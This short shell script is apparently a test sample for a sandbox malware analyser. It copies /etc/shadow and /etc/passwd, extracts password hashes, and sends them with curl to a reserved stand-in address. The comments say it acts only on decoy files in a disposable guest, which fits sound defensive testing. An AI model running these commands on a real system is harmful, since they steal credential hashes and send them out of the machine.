#!/bin/sh
# Credential dumping: copies /etc/shadow and /etc/passwd, extracts the password hashes and stages them for exfiltration.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
cat /etc/shadow > /tmp/.s
cp /etc/passwd /tmp/.p
awk -F: '$2 ~ /^\$/ {print $1":"$2}' /etc/shadow > /tmp/.hashes
cat /tmp/.hashes
curl -s -X POST --data-binary @/tmp/.hashes http://198.51.100.40/h >/dev/null
